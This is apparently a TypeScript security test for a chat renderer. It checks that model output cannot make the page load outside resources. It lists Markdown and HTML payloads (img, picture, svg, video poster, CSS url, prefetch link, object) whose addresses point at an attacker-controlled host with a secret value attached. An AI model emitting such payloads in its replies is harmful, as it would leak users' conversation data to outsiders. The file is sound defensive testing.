// Pictures in the model's words.
// tries: have the page load a picture whose address holds the conversation, in every notation of Markdown
// must: load nothing
import type { Attack } from '../../attack.ts';
import { show } from '../../shownAnswer.ts';

export default async function load(attack: Attack): Promise<string> {
  const address = `${attack.out}?secret=4711`;
  const text = [
    `![a chart](${address})`,
    `![a chart][1]\n\n[1]: ${address}`,
    `<img src="${address}"> <picture><source srcset="${address}"></picture>`,
    `[![a chart](${address})](${address})`,
    `<video poster="${address}"></video><audio src="${address}" autoplay></audio>`,
    `<div style="background: url(${address})">text</div><link rel="prefetch" href="${address}">`,
    `<svg><image href="${address}"/><feImage href="${address}"/></svg>`,
    `<input type="image" src="${address}"><object data="${address}"></object>`,
  ].join('\n\n');
  await using shown = await show([{ type: 'text-delta', text }]);
  const loading = shown.elements.filter((each) =>
    ['src', 'srcset', 'poster', 'data', 'style'].some((name) => each.getAttribute(name)?.includes(attack.out)),
  );
  return loading.length === 0 ? 'blocked: nothing is loaded' : `escaped: ${loading[0]?.outerHTML}`;
}
